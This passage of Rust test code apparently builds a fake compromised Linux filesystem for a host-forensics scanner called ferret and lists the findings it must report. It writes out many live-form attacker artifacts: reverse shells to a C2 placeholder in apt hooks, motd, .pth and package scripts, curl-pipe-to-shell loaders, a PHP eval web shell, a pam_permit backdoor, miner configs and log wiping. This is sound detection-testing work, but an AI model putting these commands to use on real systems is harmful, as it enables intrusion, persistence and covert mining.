            ferret_testkit::redis::rdb_dump(&[(b"backup1", value.as_bytes())]),
        );
    } else {
        write(root, spool, user_cron);
        // On Ubuntu, the Docker Engine API opened on 2375 without TLS, and the container an
        // attacker started through it: privileged, the host's / at /host, restarted always,
        // running a miner (TeamTNT, Kinsing).
        write(
            root,
            "etc/systemd/system/docker.service.d/override.conf",
            "[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H fd:// -H tcp://0.0.0.0:2375 --containerd=/run/containerd/containerd.sock\n",
        );
        let dir = "var/lib/docker/containers/9f3b7a21c4d8";
        write(
            root,
            &format!("{dir}/config.v2.json"),
            format!(
                r#"{{"ID":"9f3b7a21c4d8","Name":"/sleepy_kilby","Config":{{"Image":"alpine:3.19","Entrypoint":null,"Cmd":["chroot","/host","sh","-c","curl -fsSL http://{C2}/d.sh | sh; {HIDDEN}/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {WALLET}"]}},"MountPoints":{{"/host":{{"Source":"/","Destination":"/host","RW":true}}}}}}"#
            ),
        );
        write(
            root,
            &format!("{dir}/hostconfig.json"),
            r#"{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0}}"#,
        );
    }
    chmod(root, spool, 0o600);
    match d {
        // The Alibaba Cloud host also ran the single-node Hadoop of the Chinese tutorials
        // (/opt/module, HADOOP_HOME in /etc/profile.d/my_env.sh), its ResourceManager on the
        // host's name without authentication: the miners' most used door there.
        Distro::Centos7 => {
            write(
                root,
                "etc/profile.d/my_env.sh",
                "#JAVA_HOME\nexport JAVA_HOME=/opt/module/jdk1.8.0_212\n#HADOOP_HOME\nexport HADOOP_HOME=/opt/module/hadoop-3.1.3\nexport PATH=$PATH:$HADOOP_HOME/bin:$HADOOP_HOME/sbin\n",
            );
            let site = |props: &[(&str, &str)]| {
                let mut s = String::from("<?xml version=\"1.0\"?>\n<configuration>\n");
                for (n, v) in props {
                    s.extend(["  <property>\n    <name>", n, "</name>\n    <value>", v, "</value>\n  </property>\n"]);
                }
                s + "</configuration>\n"
            };
            write(
                root,
                "opt/module/hadoop-3.1.3/etc/hadoop/core-site.xml",
                site(&[("fs.defaultFS", "hdfs://hadoop102:8020")]),
            );
            write(
                root,
                "opt/module/hadoop-3.1.3/etc/hadoop/yarn-site.xml",
                site(&[
                    ("yarn.nodemanager.aux-services", "mapreduce_shuffle"),
                    ("yarn.resourcemanager.hostname", "hadoop102"),
                    ("yarn.resourcemanager.bind-host", "0.0.0.0"),
                ]),
            );
        }
        // On Ubuntu a second Redis, built from source and started by supervisor with the
        // protection switched off on its command line, and a test Kubernetes node's kubelet
        // opened to anonymous requests (TeamTNT's way to other containers).
        Distro::Ubuntu => {
            write(
                root,
                "etc/supervisor/conf.d/cache.conf",
                "[program:cache]\ncommand=/usr/local/bin/redis-server --port 6380 --protected-mode no\nautorestart=true\nuser=redis\n",
            );
            write(
                root,
                "var/lib/kubelet/config.yaml",
                "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\ncgroupDriver: systemd\n",
            );
        }
        // On Rocky a data scientist's Jupyter, opened as the tutorials say.
        Distro::Rocky9 => write(
            root,
            "root/.jupyter/jupyter_notebook_config.py",
            "# Configuration file for jupyter-notebook.\nc = get_config()  #noqa\nc.NotebookApp.ip = '0.0.0.0'\nc.NotebookApp.token = ''\nc.NotebookApp.open_browser = False\nc.NotebookApp.allow_root = True\n",
        ),
    }

    // ld.so.preload naming a hidden library (libprocesshider, as Kinsing/WatchDog use it).
    write(root, "etc/ld.so.preload", format!("{PRELOAD_LIB}\n"));
    write(
        root,
        PRELOAD_LIB,
        ferret_testkit::elf::build(
            3,
            &[
                (b".text", b"\xc3"),
                (b".rodata", b"readdir\0evil_process\0"),
            ],
        ),
    );

    // The miner: XMRig binary and config in an Outlaw-style hidden dir, started by a unit.
    let miner = ferret_testkit::elf::build(
        2,
        &[(
            b".rodata",
            b"XMRig 6.21.0\0--donate-level\0stratum+tcp://\0randomx\0cryptonight\0",
        )],
    );
    write(root, &format!("{HIDDEN}/xmrig"), &miner);
    chmod(root, &format!("{HIDDEN}/xmrig"), 0o755);
    write(
        root,
        &format!("{HIDDEN}/upd"),
        "#!/bin/sh\ncd /tmp/.X25-unix/.rsync/c\n./xmrig --config=config.json >/dev/null 2>&1 &\n",
    );
    chmod(root, &format!("{HIDDEN}/upd"), 0o755);
    write(
        root,
        &format!("{HIDDEN}/config.json"),
        format!(
            "{{\n  \"autosave\": true,\n  \"donate-level\": 0,\n  \"cpu\": {{ \"enabled\": true, \"max-threads-hint\": 100 }},\n  \"pools\": [\n    {{\n      \"url\": \"stratum+tcp://pool.supportxmr.com:3333\",\n      \"user\": \"{WALLET}\",\n      \"pass\": \"x\",\n      \"keepalive\": true\n    }}\n  ]\n}}\n"
        ),
    );
    write(
        root,
        "etc/systemd/system/sysupdate.service",
        format!("[Unit]\nDescription=System update service\nAfter=network.target\n\n[Service]\nType=simple\nExecStart={HIDDEN}/xmrig --config={HIDDEN}/config.json\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\n"),
    );
    std::os::unix::fs::symlink(
        "/etc/systemd/system/sysupdate.service",
        root.join("etc/systemd/system/multi-user.target.wants/sysupdate.service"),
    )
    .unwrap();

    // A rootkit module outside /lib/modules (Diamorphine, used by TeamTNT).
    write(
        root,
        KO,
        ferret_testkit::elf::relocatable_with_modinfo(
            b"license=Dual BSD/GPL\0author=m0nad\0description=LKM rootkit\0name=diamorphine\0vermagic=5.14.0 SMP mod_unload modversions \0",
        ),
    );

    // A trojaned ps (rpm -Va / debsums mismatch).
    write(
        root,
        "usr/bin/ps",
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0 ps that hides xmrig and pid 4242\n",
    );
    chmod(root, "usr/bin/ps", 0o755);

    // Aegis (Alibaba Cloud Security Center) removed, with traces: the init script, a unit
    // whose binary is gone, a half-deleted directory (Kinsing, WatchDog, 8220 Gang scripts).
    write(root, "etc/init.d/aegis", "#!/bin/bash\n# chkconfig: 2345 88 12\n# description: aegis service\nAEGIS_INSTALL_DIR=\"/usr/local/aegis\"\n/usr/local/aegis/aegis_client/aegis_11_91/AliYunDun\n");
    chmod(root, "etc/init.d/aegis", 0o755);
    write(root, "etc/systemd/system/aegis.service", "[Unit]\nDescription=aegis\n[Service]\nType=forking\nExecStart=/etc/init.d/aegis start\n[Install]\nWantedBy=multi-user.target\n");
    std::fs::create_dir_all(root.join("usr/local/aegis/aegis_update")).unwrap();
    write(
        root,
        "usr/local/aegis/globalcfg/domaincfg.ini",
        "[domain]\nupdate=update.aegis.aliyun.com\n",
    );

    // /etc/hosts blocking the cloud agent's domains (Kinsing, WatchDog).
    append(
        root,
        "etc/hosts",
        "127.0.0.1 update.aegis.aliyun.com\n127.0.0.1 jsrv.aegis.aliyun.com\n127.0.0.1 aegis.alicdn.com\n0.0.0.0 cloudmonitor.aliyun.com\n",
    );

    // sshd opened up: another port, root with a password.
    write(
        root,
        "etc/ssh/sshd_config.d/01-permitrootlogin.conf",
        "Port 2222\nPermitRootLogin yes\nPasswordAuthentication yes\n\
         AuthorizedKeysCommand /usr/local/share/.sshkeys/keys.sh %u\nAuthorizedKeysCommandUser root\n",
    );

    // History: root's linked to /dev/null, the admin's suppressed in .bashrc (after it had
    // recorded what the intruder ran through sudo).
    std::fs::remove_file(root.join("root/.bash_history")).unwrap();
    std::os::unix::fs::symlink("/dev/null", root.join("root/.bash_history")).unwrap();
    append(
        root,
        &format!("home/{admin}/.bashrc"),
        "export HISTFILE=/dev/null\n",
    );
    append(
        root,
        &format!("home/{admin}/.bash_history"),
        &format!(
            "sudo iptables -F\nsudo iptables -X\nsudo ufw disable\n\
             curl -sSL http://update.aegis.aliyun.com/download/uninstall.sh | sudo bash\n\
             sudo rm -rf /usr/local/aegis/aegis_client\n\
             sudo chattr +i /root/.ssh/authorized_keys\n\
             (curl -fsSL http://{C2}/ldr.sh || wget -q -O- http://{C2}/ldr.sh) | sudo bash\n\
             sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hilde\n\
             history -c\n"
        ),
    );

    // Code run at every root prompt (T1546.004), history switched off for every login shell,
    // and a second key file sshd reads by default (`.ssh/authorized_keys2`).
    append(
        root,
        "root/.bashrc",
        &format!("export PROMPT_COMMAND=\"history -a; curl -s http://{C2}/k | sh\"\n"),
    );
    write(
        root,
        "etc/profile.d/sysinit.sh",
        "unset HISTFILE\nexport HISTSIZE=0\n",
    );
    write(
        root,
        "root/.ssh/authorized_keys2",
        ed25519_key(93, "root@localhost"),
    );

    // A hidden binary dressed up as sshd, run from /etc/crontab.
    write(
        root,
        "usr/bin/.sshd",
        ferret_testkit::elf::build(2, &[(b".rodata", b"sshd backdoor\0")]),
    );
    chmod(root, "usr/bin/.sshd", 0o755);
    append(root, "etc/crontab", "*/5 * * * * root /usr/bin/.sshd -B\n");

    // PAM accepting any password for sshd, a preload through /etc/environment, a udev rule
    // and an at job that fetch and run the loader.
    write(
        root,
        "etc/pam.d/sshd",
        "auth sufficient pam_permit.so\nauth       substack     password-auth\naccount    required     pam_nologin.so\n",
    );
    write(
        root,
        "etc/environment",
        format!("LD_PRELOAD={PRELOAD_LIB}\n"),
    );
    write(
        root,
        "etc/udev/rules.d/99-netplug.rules",
        format!(
            "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -s http://{C2}/u|sh'\"\n"
        ),
    );
    let atjob = if d.rpm() {
        "var/spool/at/a0000101a2b3c4"
    } else {
        "var/spool/cron/atjobs/a0000101a2b3c4"
    };
    write(
        root,
        atjob,
        format!("#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {{\n\t exit 1\n}}\nwget -q -O- http://{C2}/at.sh | bash\n"),
    );

    // Logs: 500 failures from one source, then its successful login; account creation; the
    // cron job running; the rootkit loading.
    let (auth, sys, kern, cron) = log_names(d);
    let mut a = String::new();
    for i in 0..500i64 {
        let sec = T0 + i * 2;
        let pid = 3000 + i;
        let port = 40_000 + i;
        match d {
            Distro::Centos7 => {
                a += &auth_line(d, sec, &format!("sshd[{pid}]"), &format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER}  user=root"));
                a += &auth_line(
                    d,
                    sec,
                    &format!("sshd[{pid}]"),
                    &format!("Failed password for root from {ATTACKER} port {port} ssh2"),
                );
            }
            Distro::Rocky9 => {
                a += &auth_line(
                    d,
                    sec,
                    &format!("sshd[{pid}]"),
                    &format!("Failed password for root from {ATTACKER} port {port} ssh2"),
                );
                a += &auth_line(d, sec + 1, &format!("sshd[{pid}]"), &format!("Connection closed by authenticating user root {ATTACKER} port {port} [preauth]"));
            }
            Distro::Ubuntu => {
                a += &auth_line(
                    d,
                    sec,
                    &format!("sshd[{pid}]"),
                    &format!("Failed password for root from {ATTACKER} port {port} ssh2"),
                );
            }
        }
    }
    let t_in = T0 + 1100;
    a += &auth_line(
        d,
        t_in,
        "sshd[4100]",
        &format!("Accepted password for root from {ATTACKER} port 41999 ssh2"),
    );
    a += &auth_line(
        d,
        t_in,
        "sshd[4100]",
        "pam_unix(sshd:session): session opened for user root by (uid=0)",
    );
    let from = if d == Distro::Centos7 {
        ""
    } else {
        ", from=/dev/pts/1"
    };
    a += &auth_line(
        d,
        t_in + 60,
        "useradd[4200]",
        &format!("new group: name=systemd-network2, GID=1001{from}"),
    );
    a += &auth_line(d, t_in + 60, "useradd[4200]", &format!("new user: name=systemd-network2, UID=1001, GID=1001, home=/home/systemd-network2, shell=/bin/bash{from}"));
    a += &auth_line(
        d,
        t_in + 90,
        "passwd[4210]",
        "pam_unix(passwd:chauthtok): password changed for systemd-network2",
    );
    a += &auth_line(
        d,
        t_in + 120,
        "sudo",
        &format!(
            "  {admin} : TTY=pts/1 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/sbin/iptables -F"
        ),
    );
    append(root, auth, &a);
    let cron_msg =
        format!("(root) CMD ((curl -fsSL http://{C2}/cr.sh||wget -q -O- http://{C2}/cr.sh)|sh)");
    match cron {
        Some(c) => append(root, c, &line(d, t_in + 600, "CROND[5001]", &cron_msg)),
        None => append(root, sys, &line(d, t_in + 600, "CRON[5001]", &cron_msg)),
    }
    append(
        root,
        sys,
        &line(
            d,
            t_in + 300,
            "systemd[1]",
            "Started System update service.",
        ),
    );
    let kmsg = "[86400.123456] diamorphine: loading out-of-tree module taints kernel.";
    append(root, kern, &line(d, t_in + 400, "kernel", kmsg));
    if d.rpm() {
        append(root, sys, &line(d, t_in + 400, "kernel", kmsg));
        // auditd (on by default on rpm hosts) wrote the same attack: every failed password
        // (PAM's USER_AUTH), the login, useradd, passwd, the admin's sudo, and the agent
        // stopped by the intruder (systemd's SERVICE_STOP of aegis).
        if d == Distro::Rocky9 {
            let mut au = ferret_testkit::audit::AuditLog::new(800);
            for i in 0..500i64 {
                let pid = 3000 + i as u32;
                au.ssh_failed(
                    (T0 + i * 2) * 1000 - 2000 + 137,
                    pid,
                    Some("root"),
                    ATTACKER,
                );
            }
            au.ssh_login(t_in * 1000 + 456, 4100, "root", 0, ATTACKER, 9);
            au.add_user(
                (t_in + 60) * 1000 + 12,
                4200,
                "systemd-network2",
                1001,
                (0, "root"),
                9,
            );
            au.user(
                (t_in + 90) * 1000 + 40,
                "USER_CHAUTHTOK",
                4210,
                0,
                Some((0, "root")),
                Some(9),
                "unconfined_u:unconfined_r:passwd_t:s0-s0:c0.c1023",
                "op=PAM:chauthtok grantors=pam_pwquality,pam_unix acct=\"systemd-network2\" exe=\"/usr/bin/passwd\" hostname=? addr=? terminal=pts/1 res=success",
            );
            au.sudo(
                (t_in + 120) * 1000 + 3,
                4300,
                (1000, admin),
                3,
                &format!("/home/{admin}"),
                "iptables -F",
            );
            au.service((t_in + 200) * 1000 + 77, "aegis", false);
            append(root, "var/log/audit/audit.log", au.text());
        } else {
            append(
                root,
                "var/log/audit/audit.log",
                &format!(
                    "type=USER_LOGIN msg=audit({t_in}.456:812): pid=4100 uid=0 auid=0 ses=9 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=0 exe=\"/usr/sbin/sshd\" hostname=? addr={ATTACKER} terminal=ssh res=success'\n"
                ),
            );
        }
    }

    // A ThinkPHP exploit dropped a China Chopper one-liner among the uploads.
    write(
        root,
        "www/wwwroot/site/uploads/20240520/0c8f.php",
        "<?php @eval($_POST['x']);?>",
    );

    // Boot and package-manager hooks (PANIX's --initd, --rootkit, --package-manager, --motd,
    // --network-manager): an init script starting the miner, Diamorphine loaded at boot, a
    // reverse shell at every apt update (Debian) or a dnf/yum plugin (rpm), a motd script or a
    // NetworkManager dispatcher script opening a shell.
    let init = if d.rpm() {
        "etc/rc.d/init.d"
    } else {
        "etc/init.d"
    };
    write(
        root,
        &format!("{init}/network-online"),
        format!("#!/bin/sh\n### BEGIN INIT INFO\n# Provides: network-online\n### END INIT INFO\nnohup {HIDDEN}/upd >/dev/null 2>&1 &\n"),
    );
    write(root, "etc/modules-load.d/diamorphine.conf", "diamorphine\n");
    let revshell = format!("nohup setsid bash -c 'bash -i >& /dev/tcp/{C2}/1337 0>&1' & disown");
    if d.rpm() {
        write(
            root,
            "etc/NetworkManager/dispatcher.d/panix-dispatcher.sh",
            format!("#!/bin/sh -e\n{revshell}\n"),
        );
        let dir = if d == Distro::Centos7 {
            "etc/yum/pluginconf.d"
        } else {
            "etc/dnf/plugins"
        };
        write(root, &format!("{dir}/pkgcon.conf"), "[main]\nenabled=1\n");
    } else {
        write(
            root,
            "etc/apt/apt.conf.d/01python-upgrades",
            format!("APT::Update::Pre-Invoke {{\"({revshell}) &\"}};\n"),
        );
        write(
            root,
            "etc/update-motd.d/137-python-upgrades",
            format!("#!/bin/sh\n{revshell}\n"),
        );
    }

    // Python start-up hook (Elastic's persistence_pth_file_creation; the LiteLLM/ultralytics
    // supply-chain .pth): a reverse shell at every Python start, beside the stock .pth.
    write(
        root,
        &format!("{}/mpl-init.pth", python_site(d)),
        format!("import os; os.system('{}')\n", revshell.replace('\'', "\"")),
    );
    // A package whose maintainer script writes a cron reverse shell (PANIX
    // --malicious-package): dpkg's postinst, rpm's %post scriptlet.
    let cron_line = format!("echo '* * * * * root /bin/bash -c \"sh -i >& /dev/tcp/{C2}/1337 0>&1\"' > /etc/cron.d/panix");
    if d.rpm() {
        let work = tempfile::tempdir().unwrap();
        ferret_testkit::rpm::install(
            work.path(),
            root,
            &format!("Name: panix\nVersion: 1.0\nRelease: 1\nSummary: x\nLicense: MIT\nBuildArch: noarch\n%description\nx.\n%post\n{cron_line}\n%files\n"),
        );
    } else {
        write(
            root,
            "var/lib/dpkg/info/panix.postinst",
            format!("#!/bin/sh\nset -e\n{cron_line}\n"),
        );
    }

    // Login records wiped: wtmp emptied (`> /var/log/wtmp`), lastlog cut mid-record.
    write(root, "var/log/wtmp", b"");
    let lastlog = std::fs::read(root.join("var/log/lastlog")).unwrap();
    write(root, "var/log/lastlog", &lastlog[..292 * 3 + 100]);
}

/// The immutable flags the intruder set, once the tree is complete.
fn immutable(root: &Path) -> bool {
    let ok = |p: &str| {
        Command::new("chattr")
            .arg("+i")
            .arg(root.join(p))
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    };
    ok("root/.ssh/authorized_keys") && ok("etc/cron.d/apache")
}

/// `setcap CAPS root/rel` with the real tool; false where it cannot (not root, no libcap2-bin).
fn setcap(root: &Path, rel: &str, caps: &str) -> bool {
    Command::new("setcap")
        .arg(caps)
        .arg(root.join(rel))
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// PANIX `--cap`: `cap_setuid+ep` on the system's python3, and on a copy of it in the miner's
/// hidden directory; false where capabilities cannot be set here.
fn capabilities(root: &Path) -> bool {
    let copy = format!("{}/py", HIDDEN.trim_start_matches('/'));
    std::fs::copy(root.join("usr/bin/python3"), root.join(&copy)).unwrap();
    setcap(root, "usr/bin/python3", "cap_setuid+ep") && setcap(root, &copy, "cap_setuid+ep")
}

fn clear_flags(root: &Path) {
    let _ = Command::new("chattr")
        .args(["-R", "-ia"])
        .arg(root)
        .stderr(Stdio::null())
        .status();
}

/// A Debian 12-style journal-only host's journal (export format through the real
/// `systemd-journal-remote`), when the tool is installed.
fn journal(root: &Path, d: Distro) -> bool {
    const REMOTE: &str = "/usr/lib/systemd/systemd-journal-remote";
    if !Path::new(REMOTE).exists() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "systemd-journal-remote missing in CI (package systemd-journal-remote)"
        );
        eprintln!("note: no systemd-journal-remote: the journal part is not built");
        return false;
    }
    let mut export = Vec::new();
    let mut entry = |sec: i64, ident: &str, pid: u32, msg: &str| {
        let _ = write!(
            export,
            "__REALTIME_TIMESTAMP={}\n__MONOTONIC_TIMESTAMP={}\n_BOOT_ID=0123456789abcdef0123456789abcdef\n\
             _HOSTNAME={}\nSYSLOG_IDENTIFIER={ident}\n_PID={pid}\nSYSLOG_FACILITY=10\nPRIORITY=6\n_COMM={ident}\nMESSAGE={msg}\n\n",
            sec * 1_000_000,
            (sec - (T0 - 30 * 86_400)) * 1_000_000,
            d.host()
        );
    };
    // The same auth messages rsyslog wrote to auth.log.
    for (sec, prog, msg) in AUTH.with(|a| std::mem::take(&mut *a.borrow_mut())) {
        let (ident, pid) = match prog.split_once('[') {
            Some((i, p)) => (i.to_owned(), p.trim_end_matches(']').parse().unwrap()),
            None => (prog.clone(), 1),
        };
        entry(sec, &ident, pid, &msg);
    }
    let dir = root.join("var/log/journal/0123456789abcdef0123456789abcdef");
    std::fs::create_dir_all(&dir).unwrap();
    let mut child = Command::new(REMOTE)
        .arg("-o")
        .arg(dir.join("system.journal"))
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&export).unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    true
}

/// One planted item and the finding that must report it.
struct Expect {
    item: &'static str,
    id: &'static str,
    subject: String,
    min: Severity,
}

fn expect(item: &'static str, id: &'static str, subject: &str, min: Severity) -> Expect {
    Expect {
        item,
        id,
        subject: subject.to_owned(),
        min,
    }
}

fn admin(d: Distro) -> &'static str {
    match d {
        Distro::Ubuntu => "ubuntu",
        Distro::Centos7 => "centos",
        Distro::Rocky9 => "rocky",
    }
}

fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
    use Severity::{Critical, High, Medium};
    let spool = if d.rpm() {
        "/var/spool/cron/root"
    } else {
        "/var/spool/cron/crontabs/root"
    };
    let admin = admin(d);
    let mut v = vec![
        expect(
            "second UID 0 account",
            "accounts.uid0-non-root",
            "hilde",
            Critical,
        ),
        expect(
            "empty-password account",
            "accounts.empty-password",
            "systemd-network2",
            High,
        ),
        expect(
            "sudoers.d NOPASSWD ALL",
            "accounts.sudoers-root-all",
            "hilde",
            High,
        ),
        expect(
            "attacker key in root's authorized_keys, immutable",
            "evasion.immutable-file",
            "/root/.ssh/authorized_keys",
            High,
        ),
        expect(
            "cron.d curl|sh",
            "persistence.cron-download-exec",
            "/etc/cron.d/apache",
            Critical,
        ),
        expect(
            "user crontab running from a hidden temp dir",
            "persistence.cron-temp-path",
            spool,
            Medium,
        ),
        expect(
            "ld.so.preload hidden library",
            "persistence.ld-so-preload",
            "",
            Critical,
        ),
        expect(
            "systemd unit for the miner",
            "persistence.systemd-writable-exec",
            "sysupdate.service",
            High,
        ),
        expect("xmrig config", "scan.miner-config", "config.json", High),
        expect(
            "web shell in BT-Panel's web root",
            "scan.webshell",
            "/www/wwwroot/site/uploads/20240520/0c8f.php",
            Critical,
        ),
        expect(
            "xmrig binary in a hidden temp dir",
            "scan.exec-in-hidden-dir",
            "xmrig",
            High,
        ),
        expect(
            ".ko outside /lib/modules",
            "scan.kernel-module-outside-tree",
            "diamorphine.ko",
            High,
        ),
        expect(
            "modified /usr/bin/ps",
            "pkg.binary-changed",
            "/usr/bin/ps",
            High,
        ),
        expect(
            "aegis removed with traces",
            "evasion.agent-removed",
            "aegis",
            High,
        ),
        expect("wtmp wiped", "logins.wtmp-missing", "/var/log/wtmp", High),
        expect(
            "lastlog truncated",
            "logins.truncated",
            "/var/log/lastlog",
            Medium,
        ),
        expect(
            "bash_history linked to /dev/null",
            "history.symlink",
            "/root/.bash_history",
            Medium,
        ),
        expect(
            "HISTFILE=/dev/null in .bashrc",
            "history.startup-suppressed",
            ".bashrc",
            Medium,
        ),
        expect(
            "PROMPT_COMMAND curl|sh in root's .bashrc",
            "persistence.profile-download-exec",
            "/root/.bashrc",
            High,
        ),
        expect(
            "unset HISTFILE in /etc/profile.d",
            "history.startup-suppressed",
            "/etc/profile.d/sysinit.sh",
            Medium,
        ),
        expect(
            "key in root's authorized_keys2",
            "persistence.authorized-keys-unusual-file",
            "/root/.ssh/authorized_keys2",
            Medium,
        ),
        expect(
            "/etc/crontab running a hidden /usr/bin/.sshd",
            "persistence.cron-temp-path",
            "/etc/crontab",
            High,
        ),
        expect(
            "AuthorizedKeysCommand from a hidden dir",
            "sshd.authorized-keys-command",
            "/usr/local/share/.sshkeys/keys.sh",
            High,
        ),
        expect(
            "auth sufficient pam_permit.so for sshd",
            "persistence.pam-permit",
            "/etc/pam.d/sshd",
            Critical,
        ),
        expect(
            "LD_PRELOAD in /etc/environment",
            "persistence.environment-preload",
            "/etc/environment",
            High,
        ),
        expect(
            "udev rule running curl|sh",
            "persistence.udev-run",
            "99-netplug.rules",
            High,
        ),
        expect(
            "at job running wget|bash",
            "persistence.cron-download-exec",
            "a0000101a2b3c4",
            High,
        ),
        expect(
            "login after 500 failures",
            "logs.login-after-failures",
            ATTACKER,
            Critical,
        ),
        expect(
            "useradd in the logs",
            "logs.new-account",
            "systemd-network2",
            Medium,
        ),
        expect(
            "iptables flush in history",
            "history.firewall-disable",
            admin,
            Medium,
        ),
        expect(
            "sshd Port 2222 with PermitRootLogin yes",
            "sshd.permit-root-login",
            "",
            High,
        ),
        expect(
            "/etc/hosts blocking aliyun",
            "evasion.hosts-redirect",
            "aegis",
            High,
        ),
        expect(
            "rootkit load in the kernel log",
            "logs.module-taint",
            "diamorphine",
            Critical,
        ),
    ];
    v.push(expect(
        "cap_setuid+ep on python3",
        "persistence.interpreter-capability",
        "/usr/bin/python3",
        Critical,
    ));
    v.push(expect(
        "cap_setuid+ep on a python copy in the miner's directory",
        "files.capability-unusual-location",
        "/.rsync/c/py",
        Critical,
    ));
    if d.rpm() {
        // The same python3 under rpm -V: capabilities the package does not record (P).
        v.push(expect(
            "python3's capability against the rpm record",
            "pkg.caps-changed",
            "/usr/bin/python3",
            High,
        ));
    }
    v.push(expect(
        "init script starting the miner",
        "persistence.init-script",
        "/init.d/network-online",
        High,
    ));
    v.push(expect(
        "Diamorphine in modules-load.d",
        "persistence.module-rootkit",
        "diamorphine",
        Critical,
    ));
    if d.rpm() {
        v.push(expect(
            "NetworkManager dispatcher reverse shell",
            "persistence.network-hook",
            "panix-dispatcher.sh",
            High,
        ));
        v.push(expect(
            "dnf/yum plugin no distribution ships",
            "persistence.package-manager-plugin",
            "pkgcon.conf",
            Medium,
        ));
    } else {
        v.push(expect(
            "apt Pre-Invoke reverse shell",
            "persistence.package-manager-hook",
            "01python-upgrades",
            High,
        ));
        v.push(expect(
            "motd reverse shell",
            "persistence.motd-script",
            "137-python-upgrades",
            High,
        ));
    }
    if wipe_auth {
        v.push(expect(
            "auth log emptied",
            "evasion.log-emptied",
            if d.rpm() {
                "/var/log/secure"
            } else {
                "/var/log/auth.log"
            },
            Medium,
        ));
    }
    if d == Distro::Rocky9 {
        // From audit.log alone when secure is emptied.
        v.push(expect(
            "brute force (audit.log's USER_AUTH)",
            "logs.brute-force",
            ATTACKER,
            High,
        ));
        v.push(expect(
            "aegis stopped (audit.log's SERVICE_STOP)",
            "logs.security-agent-stopped",
            "aegis",
            High,
        ));
        v.push(expect(
            "sudo iptables -F (audit.log's USER_CMD)",
            "logs.sudo-command",
            admin,
            Medium,
        ));
    }
    v.push(expect(
        "Python .pth reverse shell",
        "persistence.python-pth",
        "mpl-init.pth",
        Critical,
    ));
    v.push(expect(
        "maintainer script writing a cron reverse shell",
        "persistence.package-script",
        if d.rpm() {
            "panix-1.0-1.noarch %post"
        } else {
            "/var/lib/dpkg/info/panix.postinst"
        },
        High,
    ));
    if d.rpm() {
        let conf = if d == Distro::Centos7 {
            "/etc/redis.conf"
        } else {
            "/etc/redis/redis.conf"
        };
        v.push(expect(
            "Redis on 0.0.0.0 without password, protected mode off",
            "exposure.redis-no-auth",
            conf,
            Critical,
        ));
        v.push(expect(
            "root's crontab written by Redis (RDB dump)",
            "persistence.redis-rdb-file",
            spool,
            Critical,
        ));
    } else {
        v.push(expect(
            "Redis started by supervisor with --protected-mode no",
            "exposure.redis-no-auth",
            "/etc/supervisor/conf.d/cache.conf",
            Critical,
        ));
        v.push(expect(
            "Docker API on tcp://0.0.0.0:2375 without TLS",
            "exposure.docker-api",
            "tcp://0.0.0.0:2375",
            Critical,
        ));
        v.push(expect(
            "privileged container running a miner",
            "exposure.docker-malicious-container",
            "sleepy_kilby",
            Critical,
        ));
        v.push(expect(
            "container with the host's / mounted, privileged",
            "exposure.docker-container-escape",
            "sleepy_kilby",
            High,
        ));
    }
    if d == Distro::Ubuntu {
        v.push(expect(
            "kubelet serving anonymous requests with AlwaysAllow",
            "exposure.kubelet-anonymous",
            "/var/lib/kubelet/config.yaml",
            Critical,
        ));
    }
    if d == Distro::Rocky9 {
        v.push(expect(
            "Jupyter on 0.0.0.0 with the token switched off",
            "exposure.jupyter-no-auth",
            "/root/.jupyter/jupyter_notebook_config.py",
            Critical,
        ));
    }
    if d == Distro::Centos7 {
        v.push(expect(
            "YARN ResourceManager on every interface, simple authentication",
            "exposure.yarn-no-auth",
            "/opt/module/hadoop-3.1.3/etc/hadoop/yarn-site.xml",
            Critical,
        ));
    }
    v
}

/// The system Python's site directory of each distribution.
fn python_site(d: Distro) -> &'static str {
    match d {
        Distro::Ubuntu => "usr/lib/python3/dist-packages",
        Distro::Centos7 => "usr/lib/python2.7/site-packages",
        Distro::Rocky9 => "usr/lib/python3.9/site-packages",
    }
}

fn matches(f: &ferret::core::Finding, e: &Expect) -> bool {
    (f.id == e.id || f.also_reported_as.iter().any(|a| a == e.id))
        && (f.subject.contains(&e.subject)
            || f.evidence.iter().any(|ev| ev.path.contains(&e.subject)))
}

/// `wipe_auth`: the intruder emptied the auth log (`echo > /var/log/auth.log`) after
/// writing it; the journal kept the same messages.
fn build(d: Distro, planted: bool, wipe_auth: bool) -> (tempfile::TempDir, PathBuf) {
    AUTH.with(|a| a.borrow_mut().clear());
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    let work = t.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    clean(d, &root, &work);
    if planted {
        plant(d, &root);
    }
    if d == Distro::Ubuntu && journal(&root, d) && wipe_auth {
        // Written, then emptied a moment later (`echo > /var/log/auth.log`).
        std::thread::sleep(std::time::Duration::from_millis(1100));
        write(&root, "var/log/auth.log", "\n");
    }
    if d == Distro::Rocky9 && wipe_auth {
        // `echo > /var/log/secure`: audit.log (forgotten) keeps the attack.
        std::thread::sleep(std::time::Duration::from_millis(1100));
        write(&root, "var/log/secure", "\n");
    }
    (t, root)
}

fn keep(d: Distro, planted: bool, wipe_auth: bool, root: &Path) {
